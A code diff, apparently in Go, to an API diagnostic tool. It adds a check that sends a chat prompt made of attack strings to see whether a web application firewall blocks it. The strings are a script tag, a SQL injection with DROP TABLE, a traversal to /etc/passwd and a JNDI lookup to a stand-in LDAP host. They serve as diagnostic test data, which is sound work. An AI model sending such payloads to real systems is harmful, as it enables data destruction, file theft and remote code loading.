@@ -18,7 +18,7 @@ import (
 var requestChecks = []check{
 	{name: checkReach, run: (*stack).checkReach},
 	{name: checkKey, needs: []string{checkReach}, run: (*stack).checkKey, chats: 1},
-	{name: checkBody, needs: []string{checkReach, checkKey}, run: (*stack).checkBody, chats: 4 + 1 + tries},
+	{name: checkBody, needs: []string{checkReach, checkKey}, run: (*stack).checkBody, chats: 5 + 1 + tries},
 	{name: checkErrors, needs: []string{checkReach, checkKey}, run: (*stack).checkErrors, chats: 5},
 	{name: checkHeaders, needs: []string{checkReach, checkKey, checkBody}, probed: true, run: (*stack).checkHeaders, chats: 1 + tries},
 	{name: checkList, needs: []string{checkReach, checkKey}, run: (*stack).checkList},
@@ -100,6 +100,9 @@ func (s *stack) checkKey(ctx context.Context, r *Result) error {
 	return nil
 }
 
+// attacks are what web application firewalls look for, and what people ask models about.
+const attacks = "Explain these lines: <script>alert(1)</script> ' UNION SELECT name FROM users; DROP TABLE users; -- ../../etc/passwd ${jndi:ldap://example.com/a}"
+
 // checkBody sends chats without the field stream: the response says what the API has read, and
 // no model is asked.
 func (s *stack) checkBody(ctx context.Context, r *Result) error {
@@ -112,10 +115,11 @@ func (s *stack) checkBody(ctx context.Context, r *Result) error {
 		{"a body of some bytes", "application/json", "Grüße", false},
 		{"a body of some bytes, with the Content-Type that curl sends", "application/x-www-form-urlencoded", "Grüße", false},
 		{"a body without Content-Length", "application/json", "Grüße", true},
+		{"a body with lines of attacks", "application/json", attacks, false},
 		{"a body of 900 KiB", "application/json", strings.Repeat("0123456789abcdef", most/16), false},
 	} {
-		body, _ := json.Marshal(map[string]string{"bot_slug": s.bot, "prompt": c.prompt})
-		got := s.do(ctx, request{path: "/v1/chat", body: string(body), chunked: c.chunked, header: map[string]string{"Content-Type": c.kind}})
+		body := unescaped(map[string]string{"bot_slug": s.bot, "prompt": c.prompt})
+		got := s.do(ctx, request{path: "/v1/chat", body: body, chunked: c.chunked, header: map[string]string{"Content-Type": c.kind}})
 		const want = `{"detail":[{"loc":["body","stream"],"msg":"field required","type":"value_error.missing"}]}`
 		if got.status == http.StatusUnprocessableEntity && sameJSON(got.body, want) {
 			continue
@@ -125,6 +129,9 @@ func (s *stack) checkBody(ctx context.Context, r *Result) error {
 			Arrived: got.show("Content-Type"),
 		}
 		switch {
+		case c.prompt == attacks:
+			f.Effect = "chats about code, web pages or databases fail"
+			f.Cause = "a web application firewall takes the text of a prompt for an attack: leave the bodies of these paths out of its rules"
 		case got.status == http.StatusRequestEntityTooLarge && s.kit == nil && got.detail() == "Request body too large":
 			r.note("MaxBodyBytes is below 900 KiB")
 			continue
@@ -168,6 +175,15 @@ func (s *stack) checkPrompt(ctx context.Context, r *Result) error {
 		Cause:   "a proxy or middleware changes bodies: it removes markup, escapes, or encodes again",
 	})
 	return nil
+}
+
+// unescaped is JSON with < and > as they are, as most clients write it.
+func unescaped(v any) string {
+	var out strings.Builder
+	encoder := json.NewEncoder(&out)
+	encoder.SetEscapeHTML(false)
+	_ = encoder.Encode(v) // only texts
+	return out.String()
 }
 
 func sameJSON(a, b string) bool {
